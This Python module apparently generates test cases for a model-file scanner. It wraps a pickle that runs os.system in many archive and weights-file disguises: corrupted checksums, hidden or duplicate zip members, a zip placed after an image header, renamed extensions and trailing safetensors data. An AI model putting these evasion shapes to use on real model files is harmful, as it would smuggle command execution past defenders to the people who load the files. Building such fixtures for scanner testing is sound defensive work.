"""The same payload in archives that readers disagree about, and in weights containers."""

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib

from assemble import CODE, SHELL, Evasion, Ref, call, encode, model, program, ref

HARM = model(call("logging:os.system", SHELL))
CALM = model([call("datetime:timedelta", 1), "logging.os.system", SHELL])
OTHER = pickle.dumps({"version": 3})


def entry(name, data, **more):
    """One zip member with fixed dates."""
    info = zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0))
    for key, value in more.items():
        setattr(info, key, value)
    return info, data


def zipped(*members, comment=b"", method=zipfile.ZIP_STORED):
    """A zip of (info, data)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for info, data in members:
            z.writestr(info, data, compress_type=method)
        z.comment = comment
    return out.getvalue()


def torch_zip(payload, name="archive/data.pkl", **more):
    """A torch checkpoint with one float tensor's worth of storage."""
    return zipped(entry(name, payload), entry("archive/version", b"3\n"), entry("archive/byteorder", b"little"),
                  entry("archive/data/0", struct.pack("<16f", *range(16))), **more)


def tarred(*members, mode="w"):
    """A tar of (name, data)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def wrong_crc(z):
    """Flips the checksum of the first member, in the header and in the directory."""
    z = bytearray(z)
    z[14] ^= 0xFF
    at = z.index(b"PK\x01\x02")
    z[at + 16] ^= 0xFF
    return bytes(z)


def other_local_name(z):
    """The local header calls the first member something else."""
    return z.replace(b"archive/data.pkl", b"archive/data.txt", 1)


def other_central_name(z):
    """The directory calls the first member something else."""
    at = z.index(b"PK\x01\x02")
    return z[:at] + z[at:].replace(b"archive/data.pkl", b"archive/README.m", 1)


def dropped_from_directory(payload):
    """A member that only a walk over local headers sees."""
    hidden = torch_zip(payload)
    start = hidden.index(b"PK\x01\x02")
    plain = zipped(entry("archive/version", b"3\n"))
    return hidden[:start] + plain


def duplicate_member(payload):
    """Two members of one name: readers differ in which they take."""
    return zipped(entry("archive/data.pkl", OTHER), entry("archive/version", b"3\n")) if payload is None else zipped(
        entry("archive/data.pkl", payload), entry("archive/data.pkl", OTHER), entry("archive/version", b"3\n"))


def legacy(*, magic=0x1950a86a20f9469cfc6c, info=None, body=None, keys=None):
    """torch's format before zip: five pickles in a row."""
    def dump(x):
        return x if isinstance(x, bytes) else pickle.dumps(x, 2)
    return b"".join(dump(x) for x in (magic, 1001, info or {"protocol_version": 1001, "little_endian": True}, body or {"w": [1]}, keys or []))


def joblib_zlib(payload):
    return zlib.compress(payload)


def npy(payload):
    from libraries import npy_of_object
    return npy_of_object(payload)


def seven(payload):
    """A 7z archive by the library that reads them."""
    try:
        import py7zr
    except ImportError:
        return None
    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w") as z:
        z.writestr(payload, "model")
    return out.getvalue()


def executable():
    """An ELF header with a text segment, not runnable."""
    head = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0x1000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    segment = struct.pack("<IIQQQQQQ", 1, 5, 0x1000, 0x1000, 0x1000, 64, 64, 4096)
    return head + segment + b"\x48\x31\xc0\xc3" * 64


# name -> (builder, suffix, loader)
SHAPES = {
    "torch-plain": (torch_zip, ".pt", "torch"),
    "torch-as-bin": (torch_zip, ".bin", "torch"),
    "torch-no-suffix": (torch_zip, "", "torch"),
    "torch-deflated": (lambda p: torch_zip(p, method=zipfile.ZIP_DEFLATED), ".pt", "torch"),
    "torch-wrong-crc": (lambda p: wrong_crc(torch_zip(p)), ".pt", "torch"),
    "torch-other-local-name": (lambda p: other_local_name(torch_zip(p)), ".pt", "torch"),
    "torch-other-central-name": (lambda p: other_central_name(torch_zip(p)), ".pt", None),
    "torch-odd-root": (lambda p: torch_zip(p, "архив/data.pkl"), ".pt", None),
    "torch-comment": (lambda p: torch_zip(p, comment=b"x" * 3000), ".pt", "torch"),
    "torch-duplicate": (duplicate_member, ".pt", None),
    "torch-dropped": (dropped_from_directory, ".pt", None),
    "torch-upper-case": (lambda p: torch_zip(p, "archive/DATA.PKL"), ".pt", None),
    "torch-pickle-as-tensor": (lambda p: zipped(entry("archive/data.pkl", OTHER), entry("archive/version", b"3"), entry("archive/data/0.pickle", p)), ".pt", None),
    "torch-constants": (lambda p: zipped(entry("m/data.pkl", OTHER), entry("m/constants.pkl", p), entry("m/version", b"3")), ".pt", None),
    "torch-extra-pickle": (lambda p: zipped(entry("a/data.pkl", OTHER), entry("a/version", b"3"), entry("a/extra/notes", p)), ".pt", None),
    "torch-legacy-body": (lambda p: legacy(body=p), ".pt", "torch"),
    "torch-legacy-info": (lambda p: legacy(info=p), ".pt", "stacked"),
    "torch-legacy-keys": (lambda p: legacy(keys=p), ".pt", "stacked"),
    "torch-package": (lambda p: zipped(entry("pkg/.data/version", b"6"), entry("pkg/.data/extern_modules", b""), entry("pkg/model/model.pkl", p)), ".pt", None),
    "zip-in-zip": (lambda p: zipped(entry("inner.zip", zipped(entry("m.bin", p)))), ".zip", None),
    "zip-deep": (lambda p: zipped(entry("a.zip", zipped(entry("b.tar.gz", tarred(("c.pkl", p), mode="w:gz"))))), ".zip", None),
    "zip-after-image": (lambda p: b"\x89PNG\r\n\x1a\n" + b"\0" * 64 + torch_zip(p), ".png", None),
    "zip-lzma": (lambda p: zipped(entry("model.pkl", p), method=zipfile.ZIP_LZMA), ".zip", None),
    "zip-bzip2": (lambda p: zipped(entry("model.pkl", p), method=zipfile.ZIP_BZIP2), ".zip", None),
    "tar-no-suffix": (lambda p: tarred(("weights", p)), "", None),
    "tar-xz": (lambda p: tarred(("m/weights", p), mode="w:xz"), ".mar", None),
    "nemo": (lambda p: tarred(("./model_config.yaml", b"a: 1\n"), ("./model_weights.ckpt", torch_zip(p))), ".nemo", None),
    "gzip": (gzip.compress, ".pkl.gz", None),
    "gzip-second-member": (lambda p: gzip.compress(OTHER) + gzip.compress(p), ".gz", None),
    "bzip2-no-suffix": (bz2.compress, "", None),
    "xz-in-gzip": (lambda p: gzip.compress(lzma.compress(p)), ".dat", None),
    "lzma-alone": (lambda p: lzma.compress(p, lzma.FORMAT_ALONE), ".lzma", "joblib"),
    "joblib-zlib": (joblib_zlib, ".joblib", "joblib"),
    "joblib-gzip": (gzip.compress, ".joblib", "joblib"),
    "joblib-xz": (lzma.compress, ".joblib", "joblib"),
    "joblib-bz2": (bz2.compress, ".joblib", "joblib"),
    "npy-object": (npy, ".npy", "numpy"),
    "npz-object": (lambda p: zipped(entry("w.npy", npy(p))), ".npz", "npz"),
    "npz-deflated": (lambda p: zipped(entry("w.npy", npy(p)), method=zipfile.ZIP_DEFLATED), ".npz", "npz"),
    "npz-raw-pickle": (lambda p: zipped(entry("w.npy", npy(OTHER)), entry("extra.npy", p)), ".npz", None),
    "seven-zip": (seven, ".7z", None),
    "renamed-safetensors": (lambda p: p, ".safetensors", "pickle"),
    "renamed-onnx": (lambda p: p, ".onnx", "pickle"),
    "renamed-text": (lambda p: p, ".txt", "pickle"),
    "renamed-json": (lambda p: p, ".json", "pickle"),
    "protocol-zero": (lambda p: b"clogging\nos.system\n(V" + SHELL.encode() + b"\ntR." if p is HARM else b"cdatetime\ntimedelta\n(I1\ntR.", ".dat", None),
    "safetensors-trailing": (lambda p: st_header({"w": (4, [1])}) + b"\0" * 4 + p, ".safetensors", None),
}


def st_header(tensors, metadata=None):
    """A safetensors header over f32 tensors of the given byte lengths."""
    import json
    body, at = {}, 0
    if metadata:
        body["__metadata__"] = metadata
    for name, (size, shape) in tensors.items():
        body[name] = {"dtype": "F32", "shape": shape, "data_offsets": [at, at + size]}
        at += size
    raw = json.dumps(body).encode()
    return struct.pack("<Q", len(raw)) + raw


# Damage and hiding are findings of their own: here the twin is the undamaged file.
DAMAGED = {
    "torch-wrong-crc": torch_zip, "torch-encrypted-flag": torch_zip, "torch-other-local-name": torch_zip,
    "torch-other-central-name": torch_zip, "torch-duplicate": torch_zip, "torch-dropped": torch_zip,
    "safetensors-trailing": lambda p: st_header({"w": (4, [1])}) + b"\0" * 4,
    "renamed-safetensors": lambda p: st_header({"w": (4, [1])}) + b"\0" * 4,
    "renamed-onnx": None, "renamed-text": lambda p: b"logging.os.system is described here\n",
    "renamed-json": lambda p: b'{"call": "logging.os.system"}', "zip-after-image": None,
}


def all():
    """Each shape with the hostile and the benign pickle."""
    for name, (build, suffix, loader) in SHAPES.items():
        hostile = build(HARM)
        if hostile is None:
            continue
        twin = DAMAGED.get(name, build)
        if twin is None:
            twin_bytes, twin_suffix = torch_zip(CALM), ".pt"
        else:
            twin_bytes, twin_suffix = twin(CALM), suffix
        e = Evasion(name, "container", hostile, twin_bytes, suffix, loader)
        e.twin_suffix = twin_suffix
        yield e
    elf = executable()
    pad = struct.pack("<16f", *range(16))
    yield Evasion("safetensors-elf", "container", st_header({"w": (64 + len(elf), [(64 + len(elf)) // 4])}) + pad + elf,
                  st_header({"w": (128, [32])}) + pad * 2, ".safetensors", None)
    yield Evasion("torch-elf-storage", "container", zipped(entry("archive/data.pkl", OTHER), entry("archive/version", b"3"), entry("archive/data/0", elf)),
                  torch_zip(CALM), ".pt", None)
